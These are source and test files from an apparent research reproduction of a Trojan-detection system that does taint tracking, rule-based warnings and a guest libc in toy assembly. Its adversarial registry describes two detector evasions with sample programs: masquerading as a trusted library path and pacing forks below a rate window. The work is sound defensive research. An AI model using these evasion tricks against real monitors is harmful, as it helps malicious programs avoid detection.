        text = secpert.render_warnings()
        assert text.startswith('Warning [LOW] Found SYS_execve call ("/bin/ls")')
        assert 'originated from ("/home/evil/a.out")' in text

    def test_none_fact_event_ignored(self):
        secpert = Secpert()
        event = SecurityEvent(pid=1, time=0, frequency=1, address="0",
                              call_name="x")
        assert secpert.analyze(event) == ()


class TestWarningSink:
    def warning(self, severity, rule="r"):
        return SecurityWarning(severity=severity, rule=rule, headline="h")

    def test_counts_and_max(self):
        sink = WarningSink()
        sink.add(self.warning(Severity.LOW))
        sink.add(self.warning(Severity.HIGH))
        sink.add(self.warning(Severity.LOW))
        assert sink.counts() == {"LOW": 2, "MEDIUM": 0, "HIGH": 1}
        assert sink.max_severity() is Severity.HIGH
        assert len(sink) == 3

    def test_empty_sink(self):
        sink = WarningSink()
        assert sink.max_severity() is None
        assert list(sink) == []

    def test_filters(self):
        sink = WarningSink()
        sink.add(self.warning(Severity.LOW, rule="a"))
        sink.add(self.warning(Severity.HIGH, rule="b"))
        assert len(sink.by_severity(Severity.LOW)) == 1
        assert len(sink.by_rule("b")) == 1

    def test_render_all(self):
        sink = WarningSink()
        sink.add(self.warning(Severity.MEDIUM))
        assert "Warning [MEDIUM] h" in sink.render_all()

    def test_severity_labels(self):
        assert Severity.LOW.label() == "LOW"
        assert Severity.MEDIUM.label() == "MEDIUM"
        assert Severity.HIGH.label() == "HIGH"
        assert Severity.HIGH > Severity.LOW


class TestExplain:
    def test_explanation_contains_fact_rule_and_advice(self):
        secpert = Secpert()
        event = access_event()
        (warning,) = secpert.analyze(event)
        text = secpert.explain(warning)
        assert "CLIPS> (assert (system_call_access" in text
        assert "(system_call_name SYS_execve)" in text
        assert "FIRE check_execve" in text
        assert "Warning [LOW]" in text

    def test_explanation_without_event(self):
        secpert = Secpert()
        warning = SecurityWarning(
            severity=Severity.LOW, rule="check_execve", headline="h"
        )
        text = secpert.explain(warning)
        assert "FIRE check_execve" in text
