"""Instruction-level dataflow tracking (paper section 7.3.1).

Replays the CPU's :class:`TaintTransfer` records over the process shadow
state.  The interesting cases, matching the paper's examples:

* ``mov %esp,%ebp`` — destination inherits the source register's tags;
* ``movl $0x4, mem`` — an immediate carries the BINARY tag of the image
  that contains the instruction;
* ``add %ebx,%eax`` — destination gets the *union* of both operands' tags;
* ``cpuid`` — the output registers get the HARDWARE tag.

Two application paths exist: :meth:`InstructionDataFlow.apply` replays
one :class:`StepResult` (the interpreter path), and
:meth:`InstructionDataFlow.apply_block` replays a whole
:class:`BlockRecord` from the block cache's precompiled taint templates.
The batched path routes every union through a :class:`TagSetInterner`,
so the steady state of a guest loop — the same block's templates over
mostly-unchanged shadow state — costs dict probes instead of frozenset
allocations.
"""

from __future__ import annotations

from typing import Dict

from repro.harrier.state import ProcessShadow
from repro.isa.cpu import StepResult
from repro.isa.memory import MAX_CSTRING
from repro.isa.translate import BlockRecord
from repro.taint.tags import EMPTY, DataSource, TagSet, TagSetInterner

_HARDWARE = TagSet.of(DataSource.HARDWARE)


class InstructionDataFlow:
    """Stateless transfer interpreter (tag caches only)."""

    def __init__(self) -> None:
        self._binary_tags: Dict[str, TagSet] = {}
        #: Shared hash-consing table + union memo for the batched path.
        self.interner = TagSetInterner()

    def binary_tag(self, image_name: str) -> TagSet:
        tags = self._binary_tags.get(image_name)
        if tags is None:
            tags = self.interner.intern(
                TagSet.of(DataSource.BINARY, image_name)
            )
            self._binary_tags[image_name] = tags
        return tags

    def apply(self, shadow: ProcessShadow, step: StepResult) -> None:
        transfers = step.transfers
        if not transfers:
            return
        regs = shadow.regs
        memory = shadow.memory
        imm_tags: TagSet = None  # lazily resolved per step
        for transfer in transfers:
            tags = EMPTY
            for src in transfer.srcs:
                kind = src[0]
                if kind == "reg":
                    tags = tags.union(regs.get(src[1]))
                elif kind == "mem":
                    tags = tags.union(memory.get(src[1]))
                elif kind == "imm":
                    if imm_tags is None:
                        image = shadow.code_image.get(step.pc)
                        imm_tags = (
                            self.binary_tag(image.name)
                            if image is not None
                            else EMPTY
                        )
                    tags = tags.union(imm_tags)
                elif kind == "hardware":
                    tags = tags.union(_HARDWARE)
                # 'zero' contributes nothing (xor r,r / call return slots)
            dst = transfer.dst
            if dst[0] == "reg":
                regs.set(dst[1], tags)
            else:
                memory.set(dst[1], tags)

    def apply_block(self, shadow: ProcessShadow, rec: BlockRecord) -> None:
        """Replay one block record's taint templates over the shadow.

        Equivalent to :meth:`apply` over the per-instruction StepResults
        the record stands for, but with the transfer shapes precompiled:
        the only per-execution inputs are the dynamic memory addresses in
        ``rec.holes`` (consumed positionally — at most one per
        instruction in this ISA) and the shadow state itself.
        """
        n = rec.executed
        if n == 0:
            return
        plan = rec.plan
        taint = plan.taint
        holes = rec.holes
        regs = shadow.regs
        rget = regs.get
        rset = regs.set
        memory = shadow.memory
        mget = memory.cell_tags.get
        mset = memory.set
        union = self.interner.union
        imm_tags: TagSet = None  # lazily resolved once per block
        cursor = 0
        addr = 0
        for i in range(n):
            tmpl = taint[i]
            if tmpl is None:
                continue
            has_hole, transfers = tmpl
            if has_hole:
                addr = holes[cursor]
                cursor += 1
            for dst_spec, src_specs in transfers:
                tags = EMPTY
                for src in src_specs:
                    kind = src[0]
                    if kind == "reg":
                        tags = union(tags, rget(src[1]))
                    elif kind == "mem?":
                        cell = mget(addr)
                        if cell is not None:
                            tags = union(tags, cell)
                    elif kind == "imm":
                        if imm_tags is None:
                            # Blocks never span images (placement leaves
                            # unmapped gaps), so one lookup covers them.
                            image = shadow.code_image.get(plan.start)
                            imm_tags = (
                                self.binary_tag(image.name)
                                if image is not None
                                else EMPTY
                            )
                        tags = union(tags, imm_tags)
                    elif kind == "hardware":
                        tags = union(tags, _HARDWARE)
                    # 'zero' contributes nothing
                if dst_spec[0] == "reg":
                    rset(dst_spec[1], tags)
                else:
                    mset(addr, tags)

    # -- helpers used by the event generator --------------------------------
    @staticmethod
    def string_tags(proc, shadow: ProcessShadow, addr: int,
                    max_len: int = MAX_CSTRING) -> TagSet:
        """Union of shadow tags over the NUL-terminated string at ``addr``.

        This is "the data source of the resource ID" (paper section 5.1):
        e.g. the provenance of a file-name string passed to open().

        The scan window matches :meth:`FlatMemory.read_cstring` (same
        ``MAX_CSTRING`` default, NUL cell excluded); where read_cstring
        faults on an unterminated string, this returns the union over
        the full window — the monitor must stay conservative, never
        raise, for strings only the guest mis-terminated.
        """
        tags = EMPTY
        cells = proc.memory.cells.get
        shadow_cells = shadow.memory.cell_tags.get
        for i in range(max_len):
            a = addr + i
            if cells(a, 0) == 0:
                break
            cell = shadow_cells(a)
            if cell is not None:
                tags = tags.union(cell)
        return tags

    @staticmethod
    def range_tags(shadow: ProcessShadow, start: int, length: int) -> TagSet:
        """Union of shadow tags over [start, start+length)."""
        return shadow.memory.union_of_range(start, length)
