"""HTH core: the public facade over the whole framework."""

from repro.core.engine import EngineCache
from repro.core.hth import HTH, STANDARD_BINARIES, run_monitored, stub_binary
from repro.core.options import RunOptions
from repro.core.report import REPORT_SCHEMA_VERSION, RunReport, Verdict

__all__ = [
    "HTH",
    "run_monitored",
    "stub_binary",
    "STANDARD_BINARIES",
    "RunOptions",
    "EngineCache",
    "RunReport",
    "REPORT_SCHEMA_VERSION",
    "Verdict",
]
