"""Adversarial registry: evasions discovered by the variant sweep.

Every row here started life as ``repro sweep`` output — a
semantics-preserving variant of a Table 4-8 Trojan that landed on a
*weaker* verdict than its parent.  Sweep evasions are filed in this
registry in one of two states:

* ``xfail=False`` — the evasion has been **fixed**: the policy/taint
  change that closes it is in the tree, and the row now classifies
  correctly.  It stays here as the regression test for that fix.
* ``xfail=True`` — the evasion is **open**: the row still misclassifies
  and the expected verdict documents what a fixed detector must say.
  Tests assert the misclassification (and start failing the moment a
  fix lands, so the row gets flipped to ``xfail=False``).

Current rows:

``masquerade libc hardcode``
    Found by the ``rename-paths`` class: reinstall any
    hardcoded-``execve`` Trojan *as* ``/lib/libc.so`` (or any other
    name in ``PolicyConfig.trusted_binaries``).  Its hardcoded strings
    were then BINARY-tagged with a trusted image name, ``filter_binary``
    dropped them, and ``check_execve`` went silent — verdict BENIGN.
    Fixed by ``PolicyConfig.distrusting``/``Secpert.distrust``: HTH now
    strips name-based trust from whatever program it is monitoring
    (trust is a property of the shared objects a program links against,
    never of the program under observation).  See docs/adversarial.md.

``slow-and-low forker``
    Found by the ``syscall-order``/timing family: a forker that spends
    its fork budget in bursts of exactly five, sleeping longer than the
    2000-tick ``process_rate_window`` between bursts.  Fifteen children
    trip the count rule (Low) but the in-window rate never exceeds the
    threshold, so the Medium rate verdict of a burst forker is evaded.
    Open: closing it needs a leaky-bucket (long-horizon) rate rule
    rather than a sliding window.
"""

from __future__ import annotations

from typing import List

from repro.core.report import Verdict
from repro.programs.base import Workload

_MASQUERADE_SOURCE = r"""
; a bog-standard hardcoded-execve Trojan -- the *only* adversarial
; trick is the path it is installed under (see the workload row)
main:
    mov ebx, prog
    mov ecx, 0
    mov edx, 0
    call execve
    mov eax, 0
    ret
.data
prog: .asciz "/bin/ls"
"""

_SLOW_AND_LOW_SOURCE = r"""
; fork 15 children in bursts of 5, sleeping past the rate window
; between bursts: count rule trips, rate rule never does
main:
    mov edi, 0              ; bursts completed
burst:
    cmp edi, 3
    jge done
    mov esi, 0              ; forks within this burst
inner:
    cmp esi, 5
    jge pause
    call fork
    cmp eax, 0
    jz child
    add esi, 1
    jmp inner
pause:
    mov ebx, 2100           ; outlast the 2000-tick rate window
    call sleep
    add edi, 1
    jmp burst
child:
    mov ebx, 50000          ; child: idle a long while, then exit
    call sleep
    mov ebx, 0
    call exit
done:
    mov eax, 0
    ret
"""


def adversarial_workloads() -> List[Workload]:
    return [
        Workload(
            name="masquerade libc hardcode",
            program_path="/lib/libc.so",
            source=_MASQUERADE_SOURCE,
            description="hardcoded execve installed under a trusted "
                        "binary name (fixed: HTH distrusts its target)",
            expected_verdict=Verdict.LOW,
            expected_rules=("check_execve",),
        ),
        Workload(
            name="slow-and-low forker",
            program_path="/bin/slow_forker",
            source=_SLOW_AND_LOW_SOURCE,
            description="paced fork bursts that stay under the sliding "
                        "rate window (open: needs a long-horizon rule)",
            expected_verdict=Verdict.MEDIUM,
            expected_rules=("check_clone_rate", "check_clone_count"),
            xfail=True,
        ),
    ]
