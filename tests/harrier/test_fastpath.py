"""Zero-taint fast path: liveness summaries and their runtime evaluation.

The contract under test: for any *fully executed* block,
``InstructionDataFlow.apply_summary`` either refuses (returns False,
load/store alias detected) or leaves the shadow state bit-identical to
``apply_block``'s per-transfer replay.  Plus the monitor-level wiring:
partial executions and the ``taint_fastpath=False`` escape hatch must
route to the slow path, and the counters must say which path ran.
"""

import pytest

from repro.cli import main as cli_main
from repro.core.hth import HTH
from repro.harrier.dataflow import InstructionDataFlow
from repro.harrier.state import ProcessShadow
from repro.isa import (
    CPU,
    FlatMemory,
    Imm,
    Instruction,
    Mem,
    Opcode,
    Reg,
    assemble,
)
from repro.isa.translate import TOK_HW, TOK_IMM, translate_block
from repro.taint import DataSource, TagSet

FILE_A = TagSet.of(DataSource.FILE, "/a")
SOCK = TagSet.of(DataSource.SOCKET, "h:1")


def make_plan(instructions):
    mem = FlatMemory()
    mem.map_code(0, instructions)
    return translate_block(mem, 0), mem


def run_block(instructions, setup=None):
    """Execute a block once; returns its (plan, record)."""
    plan, mem = make_plan(instructions)
    cpu = CPU(mem, entry=0)
    cpu.regs.set("esp", 0x1000)
    if setup is not None:
        setup(cpu)
    rec = plan.execute(cpu, plan.length)
    assert rec.executed == plan.length
    return plan, rec


def both_paths(instructions, taint_setup=None, cpu_setup=None):
    """Apply one record via slow and fast path on twin shadows."""
    plan, rec = run_block(instructions, setup=cpu_setup)
    flow = InstructionDataFlow()
    slow = ProcessShadow()
    fast = ProcessShadow()
    if taint_setup is not None:
        taint_setup(slow)
        taint_setup(fast)
    flow.apply_block(slow, rec)
    took_fast = flow.apply_summary(fast, rec)
    return slow, fast, took_fast


def assert_identical(slow, fast):
    assert slow.regs.snapshot() == fast.regs.snapshot()
    assert dict(slow.memory.cell_tags) == dict(fast.memory.cell_tags)


class TestSummaryShape:
    def test_compare_branch_block_is_noop(self):
        plan, _ = make_plan([
            Instruction(Opcode.CMP, Reg("eax"), Imm(0)),
            Instruction(Opcode.JZ, Imm(0)),
        ])
        summary = plan.taint_summary
        assert summary.is_noop
        assert summary.live_in == ()
        assert not summary.has_loads

    def test_register_chain_folds_to_entry_tokens(self):
        # ebx = eax; ebx += ecx  ==> ebx's support is {eax, ecx} at entry
        plan, _ = make_plan([
            Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
            Instruction(Opcode.ADD, Reg("ebx"), Reg("ecx")),
            Instruction(Opcode.RET),
        ])
        summary = plan.taint_summary
        writes = dict(summary.reg_writes)
        assert set(writes["ebx"]) == {("reg", "eax"), ("reg", "ecx")}
        assert set(summary.live_in) == {"eax", "ecx"}
        assert summary.zero_taint_safe

    def test_immediate_defeats_zero_taint_safety(self):
        plan, _ = make_plan([
            Instruction(Opcode.MOV, Reg("eax"), Imm(5)),
            Instruction(Opcode.RET),
        ])
        summary = plan.taint_summary
        assert dict(summary.reg_writes)["eax"] == (TOK_IMM,)
        assert not summary.zero_taint_safe

    def test_cpuid_defeats_zero_taint_safety(self):
        plan, _ = make_plan([
            Instruction(Opcode.CPUID),
            Instruction(Opcode.RET),
        ])
        summary = plan.taint_summary
        assert TOK_HW in dict(summary.reg_writes)["eax"]
        assert not summary.zero_taint_safe

    def test_xor_self_overwrite_kills_liveness(self):
        # eax's entry tags never survive xor eax,eax; the later read of
        # eax must resolve to the (empty) chained value, not live-in.
        plan, _ = make_plan([
            Instruction(Opcode.XOR, Reg("eax"), Reg("eax")),
            Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
            Instruction(Opcode.RET),
        ])
        summary = plan.taint_summary
        writes = dict(summary.reg_writes)
        assert writes["eax"] == ()
        assert writes["ebx"] == ()
        assert summary.live_in == ()
        assert summary.zero_taint_safe

    def test_load_records_hole_and_store_records_alias_check(self):
        plan, _ = make_plan([
            Instruction(Opcode.STORE, Mem("edi", 0), Reg("eax")),  # hole 0
            Instruction(Opcode.LOAD, Reg("ebx"), Mem("esi", 0)),   # hole 1
            Instruction(Opcode.RET),
        ])
        summary = plan.taint_summary
        assert summary.read_holes == (1,)
        assert summary.alias_checks == ((1, (0,)),)
        assert summary.touch_holes == (0, 1)
        assert dict(summary.mem_writes) == {0: (("reg", "eax"),)}

    def test_load_before_store_needs_no_alias_check(self):
        plan, _ = make_plan([
            Instruction(Opcode.LOAD, Reg("ebx"), Mem("esi", 0)),
            Instruction(Opcode.STORE, Mem("edi", 0), Reg("ebx")),
            Instruction(Opcode.RET),
        ])
        assert plan.taint_summary.alias_checks == ()


class TestEvaluationEquivalence:
    def test_clean_state_pure_block(self):
        slow, fast, ok = both_paths([
            Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
            Instruction(Opcode.ADD, Reg("ebx"), Reg("ecx")),
            Instruction(Opcode.RET),
        ])
        assert ok
        assert_identical(slow, fast)

    def test_tainted_registers_propagate(self):
        def taint(shadow):
            shadow.regs.set("eax", FILE_A)
            shadow.regs.set("ecx", SOCK)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
                Instruction(Opcode.ADD, Reg("ebx"), Reg("ecx")),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
        )
        assert ok
        assert_identical(slow, fast)
        assert fast.regs.get("ebx") == FILE_A.union(SOCK)

    def test_stale_tags_cleared_by_clean_overwrite(self):
        # ebx carried taint at entry but the block overwrites it from a
        # clean source: the fast path must clear, not skip.
        def taint(shadow):
            shadow.regs.set("ebx", FILE_A)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
        )
        assert ok
        assert_identical(slow, fast)
        assert fast.regs.snapshot() == {}

    def test_tainted_load_propagates(self):
        def cpu_setup(cpu):
            cpu.regs.set("esi", 0x500)

        def taint(shadow):
            shadow.memory.set(0x500, SOCK)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.LOAD, Reg("ebx"), Mem("esi", 0)),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
            cpu_setup=cpu_setup,
        )
        assert ok
        assert_identical(slow, fast)
        assert fast.regs.get("ebx") == SOCK

    def test_store_of_tainted_register(self):
        def cpu_setup(cpu):
            cpu.regs.set("edi", 0x600)

        def taint(shadow):
            shadow.regs.set("eax", FILE_A)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.STORE, Mem("edi", 0), Reg("eax")),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
            cpu_setup=cpu_setup,
        )
        assert ok
        assert_identical(slow, fast)
        assert fast.memory.get(0x600) == FILE_A

    def test_aliasing_load_bails_to_slow_path(self):
        # store [edi] then load [esi] with edi == esi: the load must see
        # the *stored* tags, which entry-state evaluation cannot express.
        def cpu_setup(cpu):
            cpu.regs.set("edi", 0x700)
            cpu.regs.set("esi", 0x700)

        def taint(shadow):
            shadow.regs.set("eax", FILE_A)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.STORE, Mem("edi", 0), Reg("eax")),
                Instruction(Opcode.LOAD, Reg("ebx"), Mem("esi", 0)),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
            cpu_setup=cpu_setup,
        )
        assert not ok  # caller must fall back to apply_block
        # And the fallback produces the right answer:
        assert slow.regs.get("ebx") == FILE_A

    def test_non_aliasing_store_load_stays_fast(self):
        def cpu_setup(cpu):
            cpu.regs.set("edi", 0x700)
            cpu.regs.set("esi", 0x800)

        def taint(shadow):
            shadow.regs.set("eax", FILE_A)
            shadow.memory.set(0x800, SOCK)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.STORE, Mem("edi", 0), Reg("eax")),
                Instruction(Opcode.LOAD, Reg("ebx"), Mem("esi", 0)),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
            cpu_setup=cpu_setup,
        )
        assert ok
        assert_identical(slow, fast)
        assert fast.regs.get("ebx") == SOCK
        assert fast.memory.get(0x700) == FILE_A

    def test_double_store_same_address_last_wins(self):
        def cpu_setup(cpu):
            cpu.regs.set("edi", 0x900)

        def taint(shadow):
            shadow.regs.set("eax", FILE_A)
            shadow.regs.set("ebx", SOCK)

        slow, fast, ok = both_paths(
            [
                Instruction(Opcode.STORE, Mem("edi", 0), Reg("eax")),
                Instruction(Opcode.STORE, Mem("edi", 0), Reg("ebx")),
                Instruction(Opcode.RET),
            ],
            taint_setup=taint,
            cpu_setup=cpu_setup,
        )
        assert ok
        assert_identical(slow, fast)
        assert fast.memory.get(0x900) == SOCK


class TestMonitorWiring:
    SOURCE = """
main:
    mov ecx, 6
loop:
    mov ebx, eax
    add ebx, ecx
    sub ecx, 1
    cmp ecx, 0
    jnz loop
    mov eax, 0
    ret
"""

    def _run(self, **kwargs):
        hth = HTH(**kwargs)
        hth.run(assemble("/bin/t", self.SOURCE))
        return hth.harrier

    def test_fastpath_counters(self):
        harrier = self._run()
        assert harrier.fastpath_blocks > 0
        # Guest startup writes immediates etc., so both paths run.
        total = harrier.fastpath_blocks + harrier.slowpath_blocks
        assert total > 0

    def test_escape_hatch_disables_fastpath(self):
        from repro.core.options import RunOptions

        harrier = self._run(options=RunOptions(taint_fastpath=False))
        assert harrier.fastpath_blocks == 0
        assert harrier.slowpath_blocks > 0

    def test_partial_execution_routes_to_slow_path(self):
        plan, mem = make_plan([
            Instruction(Opcode.MOV, Reg("ebx"), Reg("eax")),
            Instruction(Opcode.MOV, Reg("ecx"), Reg("eax")),
            Instruction(Opcode.RET),
        ])
        cpu = CPU(mem, entry=0)
        cpu.regs.set("esp", 0x1000)
        rec = cpu_rec = plan.execute(cpu, 1)  # budget expires mid-block
        assert rec.executed < plan.length
        harrier = self._run()
        before_slow = harrier.slowpath_blocks
        before_fast = harrier.fastpath_blocks
        harrier._apply_block_dataflow(ProcessShadow(), cpu_rec)
        assert harrier.slowpath_blocks == before_slow + 1
        assert harrier.fastpath_blocks == before_fast


class TestCliFlag:
    def test_no_taint_fastpath_flag(self, tmp_path, capsys):
        src = tmp_path / "t.s"
        src.write_text("main:\n    mov eax, 0\n    ret\n")
        assert cli_main(["run", str(src), "--no-taint-fastpath"]) == 0
        out = capsys.readouterr().out
        assert "verdict" in out
