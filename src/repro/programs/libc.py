"""Guest C library, assembled as the shared object ``/lib/libc.so``.

Being a *separate image* matters for fidelity, not just convenience:

* the policy trusts libc, so strings hardcoded *in libc* (``/bin/sh``
  inside ``system``) are filtered — exactly why the paper's HTH missed the
  ElmExploit's ``system("/bin/cat ./tmpmail | ...")`` (section 8.3.1);
* basic blocks executed inside libc are not application blocks, so event
  frequency is attributed to the "last app BB" (section 7.4);
* ``gethostbyname`` lives here, giving the routine-level short circuit a
  real call boundary to interpose on (section 7.2).

Calling convention: arguments in ``ebx, ecx, edx, esi``; result in
``eax``.  Every routine is **callee-saved** for all registers except
``eax`` — guest programs can keep live values in registers across calls.
"""

from __future__ import annotations

from functools import lru_cache

from repro.isa.assembler import assemble
from repro.isa.image import Image

LIBC_PATH = "/lib/libc.so"

LIBC_SOURCE = r"""
; ===================== syscall wrappers =====================
; (the kernel only writes eax; wrappers that stage arguments save and
;  restore what they touch)
.text

exit:                       ; exit(ebx=status) - does not return
    mov eax, 1
    int 0x80
    hlt

fork:                       ; fork() -> eax = child pid | 0
    mov eax, 2
    int 0x80
    ret

read:                       ; read(ebx=fd, ecx=buf, edx=count) -> eax
    mov eax, 3
    int 0x80
    ret

write:                      ; write(ebx=fd, ecx=buf, edx=count) -> eax
    mov eax, 4
    int 0x80
    ret

open:                       ; open(ebx=path, ecx=flags) -> eax = fd
    mov eax, 5
    int 0x80
    ret

close:                      ; close(ebx=fd)
    mov eax, 6
    int 0x80
    ret

creat:                      ; creat(ebx=path) -> eax = fd
    mov eax, 8
    int 0x80
    ret

unlink:                     ; unlink(ebx=path)
    mov eax, 10
    int 0x80
    ret

lseek:                      ; lseek(ebx=fd, ecx=offset, edx=whence)
    mov eax, 19             ; whence: 0=SET 1=CUR 2=END
    int 0x80
    ret

execve:                     ; execve(ebx=path, ecx=argv, edx=envp)
    mov eax, 11
    int 0x80
    ret

time:                       ; time() -> eax = virtual clock
    mov eax, 13
    int 0x80
    ret

chmod:                      ; chmod(ebx=path, ecx=mode)
    mov eax, 15
    int 0x80
    ret

getpid:                     ; getpid() -> eax
    mov eax, 20
    int 0x80
    ret

dup:                        ; dup(ebx=fd) -> eax = new fd
    mov eax, 41
    int 0x80
    ret

sleep:                      ; sleep(ebx=ticks)
    mov eax, 162
    int 0x80
    ret

mkfifo:                     ; mkfifo(ebx=path)
    push ecx
    mov ecx, 0x11a4         ; S_IFIFO | 0644
    mov eax, 14
    int 0x80
    pop ecx
    ret

gethostbyname:              ; gethostbyname(ebx=name) -> eax = address
    mov eax, 400            ; SYS_resolve - consults the hosts database,
    int 0x80                ; so the result's taint is the database's,
    ret                     ; not the name's (Harrier short-circuits this)

; ===================== string routines =====================

strlen:                     ; strlen(ebx=s) -> eax
    push ecx
    push edi
    mov eax, 0
strlen_loop:
    mov edi, ebx
    add edi, eax
    load ecx, [edi]
    cmp ecx, 0
    jz strlen_done
    add eax, 1
    jmp strlen_loop
strlen_done:
    pop edi
    pop ecx
    ret

strcpy:                     ; strcpy(ebx=dst, ecx=src) -> eax = dst
    push ebx
    push ecx
    push edx
    mov eax, ebx
strcpy_loop:
    load edx, [ecx]
    store [ebx], edx
    cmp edx, 0
    jz strcpy_done
    add ebx, 1
    add ecx, 1
    jmp strcpy_loop
strcpy_done:
    pop edx
    pop ecx
    pop ebx
    ret

strcat:                     ; strcat(ebx=dst, ecx=src) -> eax = dst
    push ebx
    push ecx
    push edx
    mov eax, ebx
strcat_seek:
    load edx, [ebx]
    cmp edx, 0
    jz strcat_copy
    add ebx, 1
    jmp strcat_seek
strcat_copy:
    load edx, [ecx]
    store [ebx], edx
    cmp edx, 0
    jz strcat_done
    add ebx, 1
    add ecx, 1
    jmp strcat_copy
strcat_done:
    pop edx
    pop ecx
    pop ebx
    ret

strcmp:                     ; strcmp(ebx=a, ecx=b) -> eax (0 when equal)
    push ebx
    push ecx
    push edx
    push esi
strcmp_loop:
    load edx, [ebx]
    load esi, [ecx]
    cmp edx, esi
    jnz strcmp_diff
    cmp edx, 0
    jz strcmp_equal
    add ebx, 1
    add ecx, 1
    jmp strcmp_loop
strcmp_diff:
    mov eax, edx
    sub eax, esi
    jmp strcmp_done
strcmp_equal:
    mov eax, 0
strcmp_done:
    pop esi
    pop edx
    pop ecx
    pop ebx
    ret

memcpy:                     ; memcpy(ebx=dst, ecx=src, edx=n) -> eax = dst
    push ebx
    push ecx
    push edx
    push esi
    mov eax, ebx
memcpy_loop:
    cmp edx, 0
    jle memcpy_done
    load esi, [ecx]
    store [ebx], esi
    add ebx, 1
    add ecx, 1
    sub edx, 1
    jmp memcpy_loop
memcpy_done:
    pop esi
    pop edx
    pop ecx
    pop ebx
    ret

atoi:                       ; atoi(ebx=s) -> eax
    push ebx
    push ecx
    mov eax, 0
atoi_loop:
    load ecx, [ebx]
    cmp ecx, 48             ; '0'
    jl atoi_done
    cmp ecx, 57             ; '9'
    jg atoi_done
    mul eax, 10
    sub ecx, 48
    add eax, ecx
    add ebx, 1
    jmp atoi_loop
atoi_done:
    pop ecx
    pop ebx
    ret

itoa:                       ; itoa(ebx=value, ecx=buf) -> eax = buf
    push ebx
    push ecx
    push edx
    push edi
    push ecx                ; original buffer (returned)
    cmp ebx, 0
    jge itoa_setup
    store [ecx], 45         ; '-' prefix, then format the magnitude
    add ecx, 1
    mov eax, 0
    sub eax, ebx
    mov ebx, eax
itoa_setup:
    push ecx                ; digit-write cursor
    mov edi, itoa_tmp
    cmp ebx, 0
    jnz itoa_loop
    store [edi], 48         ; '0'
    add edi, 1
    jmp itoa_rev
itoa_loop:
    cmp ebx, 0
    jz itoa_rev
    mov edx, ebx
    mod edx, 10
    add edx, 48
    store [edi], edx
    add edi, 1
    div ebx, 10
    jmp itoa_loop
itoa_rev:
    pop ecx
itoa_rev_loop:
    cmp edi, itoa_tmp
    jle itoa_done
    sub edi, 1
    load edx, [edi]
    store [ecx], edx
    add ecx, 1
    jmp itoa_rev_loop
itoa_done:
    store [ecx], 0
    pop eax                 ; original buffer
    pop edi
    pop edx
    pop ecx
    pop ebx
    ret

; ===================== I/O helpers =====================

print:                      ; print(ebx=str) to stdout
    push ebx
    push ecx
    push edx
    call strlen
    mov ecx, ebx
    mov edx, eax
    mov ebx, 1
    call write
    pop edx
    pop ecx
    pop ebx
    ret

fputs:                      ; fputs(ebx=fd, ecx=str) -> eax = n
    push ebx
    push ecx
    push edx
    push ebx
    mov ebx, ecx
    call strlen
    mov edx, eax
    mov ecx, ebx
    pop ebx
    call write
    pop edx
    pop ecx
    pop ebx
    ret

print_num:                  ; print_num(ebx=value)
    push ebx
    push ecx
    mov ecx, num_buf
    call itoa
    mov ebx, eax
    call print
    pop ecx
    pop ebx
    ret

read_line:                  ; read_line(ebx=fd, ecx=buf, edx=max) -> eax = n
    push edx                ; reads one chunk, strips trailing newline,
    push edi                ; NUL-terminates
    call read
    cmp eax, 0
    jle read_line_empty
    mov edi, ecx
    add edi, eax
    store [edi], 0
    sub edi, 1
    load edx, [edi]
    cmp edx, 10             ; '\n'
    jnz read_line_done
    store [edi], 0
    sub eax, 1
    jmp read_line_done
read_line_empty:
    store [ecx], 0
    mov eax, 0
read_line_done:
    pop edi
    pop edx
    ret

; ===================== memory / misc =====================

malloc:                     ; malloc(ebx=size) -> eax (bump allocator)
    push ebx                ; grows the program break via brk(2), so the
    push ecx                ; kernel - and the monitor - observe memory
    push edi                ; consumption (resource-abuse tracking)
    mov edi, heap_ptr
    load eax, [edi]
    mov ecx, eax
    add ecx, ebx
    store [edi], ecx
    push eax
    mov ebx, ecx
    mov eax, 45             ; SYS_brk
    int 0x80
    pop eax
    pop edi
    pop ecx
    pop ebx
    ret

rand:                       ; rand() -> eax in [0, 2^31)
    push edi
    mov edi, rand_seed
    load eax, [edi]
    mul eax, 1103515245
    add eax, 12345
    mod eax, 0x7fffffff
    store [edi], eax
    pop edi
    ret

env_lookup:                 ; env_lookup(ebx=envp, ecx=name) -> eax = value | 0
    push ebx
    push ecx
    push edx
    push esi
    push edi
env_lookup_loop:
    load edx, [ebx]
    cmp edx, 0
    jz env_lookup_fail
    push ebx
    push ecx
    mov esi, edx            ; entry cursor
env_cmp_loop:
    load edi, [ecx]
    cmp edi, 0
    jz env_cmp_name_end
    load eax, [esi]
    cmp eax, edi
    jnz env_cmp_fail
    add esi, 1
    add ecx, 1
    jmp env_cmp_loop
env_cmp_name_end:
    load eax, [esi]
    cmp eax, 61             ; '='
    jnz env_cmp_fail
    pop ecx
    pop ebx
    mov eax, esi
    add eax, 1
    jmp env_lookup_done
env_cmp_fail:
    pop ecx
    pop ebx
    add ebx, 1
    jmp env_lookup_loop
env_lookup_fail:
    mov eax, 0
env_lookup_done:
    pop edi
    pop esi
    pop edx
    pop ecx
    pop ebx
    ret

; ===================== process helpers =====================

system:                     ; system(ebx=cmd) -> eax = child pid
    push ebx                ; runs "/bin/sh -c cmd" in a forked child -
    push ecx                ; the /bin/sh string is hardcoded *here*, in
    push edx                ; libc, which is why a trusting policy filters
    push edi                ; the resulting execve (paper section 8.3.1)
    mov edi, ebx
    call fork
    cmp eax, 0
    jnz system_parent
    mov ecx, edi            ; child: build ["/bin/sh", "-c", cmd] argv
    mov edi, sys_argv
    mov edx, sh_path
    store [edi], edx
